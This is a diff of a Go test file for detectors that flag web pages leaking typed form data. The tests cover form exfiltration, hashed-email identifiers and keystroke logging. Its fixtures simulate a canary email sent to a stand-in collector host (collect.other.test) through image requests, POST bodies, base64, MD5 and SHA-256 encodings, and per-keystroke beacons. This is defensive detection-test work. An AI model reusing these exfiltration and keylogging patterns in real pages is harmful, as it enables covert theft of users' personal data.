@@ -1,14 +1,10 @@
 package detectors
 
 import (
-	"bytes"
-	"compress/gzip"
-	"crypto/md5"
 	"crypto/sha256"
 	"encoding/base64"
 	"encoding/hex"
 	"fmt"
-	"hash/crc32"
 	"net/url"
 	"strings"
 	"testing"
@@ -18,7 +14,6 @@ import (
 
 // Texts that are typed.
 const (
-	canary  = "bodifakela4821@example.com"
 	called  = "Bodifakela Gofudiri"
 	number  = "07700900123"
 	secret  = "Ba12!fedigokubo34"
@@ -26,81 +21,12 @@ const (
 	seeking = "tomelafusiba"
 )
 
-const collector = "https://collect.other.test/c"
-
-func sha256Of(s string) string { sum := sha256.Sum256([]byte(s)); return hex.EncodeToString(sum[:]) }
-
-func md5Of(s string) string { sum := md5.Sum([]byte(s)); return hex.EncodeToString(sum[:]) }
-
-func crcOf(s string) uint32 { return crc32.ChecksumIEEE([]byte(s)) }
-
-func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
-
-func gzipOf(s string) string {
-	var b bytes.Buffer
-	w := gzip.NewWriter(&b)
-	_, _ = w.Write([]byte(s))
-	_ = w.Close()
-	return b.String()
-}
-
-// typing starts a visit with a run that types.
-func typing() *maker { return visit().another(evidence.Forms) }
-
-// typed adds a text that is typed into a field.
-func (m *maker) typed(asks, text string, changes ...func(*evidence.Typed)) *maker {
-	m.now++
-	t := evidence.Typed{
-		ID: evidence.NewID(m.run.Scenario, "typed", len(m.run.Typed)+1), At: m.now, Target: "t1",
-		Label: "Field for " + asks, Name: "f", Type: "text", Asks: asks, Value: text,
-	}
-	for _, change := range changes {
-		change(&t)
-	}
-	m.run.Typed = append(m.run.Typed, t)
-	return m
-}
-
-// post adds a request with a body.
-func (m *maker) post(url, body string, changes ...change) *maker {
-	return m.request("fetch", url, append([]change{func(r *evidence.Request) { r.Method, r.Body = "POST", body }}, changes...)...)
-}
-
-// line adds a socket over which the page sends messages.
-func (m *maker) line(url string, frames ...string) *maker {
-	m.now++
-	s := evidence.Socket{ID: evidence.NewID(m.run.Scenario, "socket", len(m.run.Sockets)+1), At: m.now, URL: url, Status: 101, Target: "t1"}
-	for _, f := range frames {
-		m.now++
-		s.Sent, s.SentBytes = s.Sent+1, s.SentBytes+int64(len(f))
-		s.Frames = append(s.Frames, evidence.SocketFrame{At: m.now, Sent: true, Text: f, Size: len(f)})
-	}
-	m.run.Sockets = append(m.run.Sockets, s)
-	return m
-}
-
-// by says which scripts made a request, innermost first.
-func by(scripts ...string) change {
-	return func(r *evidence.Request) {
-		r.Initiator.Kind = "script"
-		for _, s := range scripts {
-			r.Initiator.Stack = append(r.Initiator.Stack, evidence.Frame{URL: s, Line: 1})
-		}
-	}
-}
-
-func binary(r *evidence.Request) { r.Body, r.BodyBinary = b64(r.Body), true }
-
-func sentHeader(name, value string) change {
-	return func(r *evidence.Request) { r.Headers = append(r.Headers, evidence.Header{Name: name, Value: value}) }
-}
-
 func TestFormExfiltration(t *testing.T) {
 	q := url.QueryEscape
 	mail := func() *maker { return typing().typed("email", canary) }
 	ours := "https://www.shop.test/api"
 	found := want{"email:collect.other.test critical"}
-	tryAll(t, "form-exfiltration", []trial{
+	tryAll(t, formExfiltration, []trial{
 		{"in an address", mail().request("image", collector+"?e="+q(canary)), found},
 		{"in a body", mail().post(collector, `{"type":"blur","value":"`+canary+`"}`), found},
 		{"in parameters of a body", mail().post(collector, "a=1&mail="+q(canary)), found},
@@ -162,7 +88,7 @@ func TestFormExfiltration(t *testing.T) {
 func TestFormExfiltrationTells(t *testing.T) {
 	m := typing().typed("email", canary, func(t *evidence.Typed) { t.Label, t.Form = " Your e-mail ", "newsletter" })
 	m.post(collector, `{"d":"`+b64(canary)+`"}`, by(otherJS)).request("image", collector+"?e="+url.QueryEscape(canary))
-	f := m.judge(t, "form-exfiltration")[0]
+	f := m.judge(t, formExfiltration)[0]
 	for name, want := range map[string]string{
 		"what": "email", "field": "Your e-mail", "form": "newsletter", "host": "collect.other.test", "encoding": "base64, url", "count": "2", "script": otherJS, "own": "no",
 	} {
@@ -174,7 +100,7 @@ func TestFormExfiltrationTells(t *testing.T) {
 		t.Errorf("%+v", f)
 	}
 	m = typing().typed("email", canary).request("image", collector+"?a=bodifakela")
-	if f := m.judge(t, "form-exfiltration")[0]; f.Certainty != Inferred || f.Args["encoding"] != "plain (piece)" {
+	if f := m.judge(t, formExfiltration)[0]; f.Certainty != Inferred || f.Args["encoding"] != "plain (piece)" {
 		t.Errorf("a piece: %+v", f)
 	}
 }
@@ -186,9 +112,9 @@ func TestNothingTyped(t *testing.T) {
 		want string
 	}{
 		{visit(), "other-scenario"},
-		{typing(), nothingTyped},
+		{typing(), "nothing-typed"},
 	} {
-		j := Run(c.m.v, db(t), Options{Only: []string{"form-exfiltration"}})
+		j := Run([]*Technique{formExfiltration}, c.m.v, db(t), Options{})
 		if len(j.NotMeasured) != 1 || j.NotMeasured[0].Why != c.want {
 			t.Errorf("%+v, want %s", j.NotMeasured, c.want)
 		}
@@ -202,7 +128,7 @@ func TestHashedIdentifier(t *testing.T) {
 	safe := base64.RawURLEncoding.EncodeToString([]byte(raw("someone@else.test")))
 	hash := sha256Of("someone@else.test")
 	meta := "https://www.facebook.com/tr?id=1&ev=Lead"
-	tryAll(t, "hashed-identifier", []trial{
+	tryAll(t, hashedIdentifier, []trial{
 		{"SHA-256 of what was typed", mail().request("image", collector+"?x="+sha256Of(canary)), want{"email:collect.other.test high"}},
 		{"MD5, whatever it is called", mail().post(collector, `{"z":["`+md5Of(canary)+`"]}`), want{"email:collect.other.test high"}},
 		{"bytes in base64", mail().post(collector, b64(raw(canary))), want{"email:collect.other.test high"}},
@@ -246,7 +172,7 @@ func TestHashedIdentifier(t *testing.T) {
 		{visit().request("image", collector+"?hashed_email="+hash), Inferred, "sha256"},
 		{mail().request("image", collector+fmt.Sprintf("?x=%d", crcOf(canary))), Inferred, "decimal crc32"},
 	} {
-		f := c.m.judge(t, "hashed-identifier")[0]
+		f := c.m.judge(t, hashedIdentifier)[0]
 		if f.Certainty != c.want || f.Args["form"] != c.form {
 			t.Errorf("%s, %q; want %s, %q", f.Certainty, f.Args["form"], c.want, c.form)
 		}
@@ -273,7 +199,7 @@ func TestKeyLogging(t *testing.T) {
 		batch = append(batch, fmt.Sprintf(`{"t":%d,"e":"keydown","k":%q},{"t":%d,"e":"keyup","k":%q}`, i, canary[i:i+1], i, canary[i:i+1]))
 		mixed = append(mixed, fmt.Sprintf(`{"e":"input","v":%q}`, canary[:i+1]))
 	}
-	tryAll(t, "key-logging", []trial{
+	tryAll(t, keyLogging, []trial{
 		{"a growing text", growing(mail(), canary, collector), found},
 		{"a growing text in base64", each(mail(), canary, func(m *maker, i int) { m.post(collector, `{"v":"`+b64(canary[:i+1])+`"}`) }), found},
 		{"a growing text inside another", each(mail(), canary, func(m *maker, i int) { m.post(collector, "field email now "+canary[:i+1]+"!") }), found},
@@ -310,10 +236,10 @@ func TestKeyLogging(t *testing.T) {
 		{"other letters", each(mail(), "hello world, how are you", func(m *maker, i int) { m.request("image", collector+"?k="+"xyz"[i%3:i%3+1]) }), nil},
 	})
 	m := growing(mail(), canary, collector)
-	if f := m.judge(t, "key-logging")[0]; f.Certainty != Observed || f.Args["way"] != "growing-text" || f.Args["what"] != "email" || f.Args["count"] != itoa(len(canary)) {
+	if f := m.judge(t, keyLogging)[0]; f.Certainty != Observed || f.Args["way"] != "growing-text" || f.Args["what"] != "email" || f.Args["count"] != itoa(len(canary)) {
 		t.Errorf("%+v", f)
 	}
-	if f := encrypted(typing(), 1).judge(t, "key-logging")[0]; f.Certainty != Inferred || f.Args["what"] != "unreadable" {
+	if f := encrypted(typing(), 1).judge(t, keyLogging)[0]; f.Certainty != Inferred || f.Args["what"] != "unreadable" {
 		t.Errorf("%+v", f)
 	}
 }
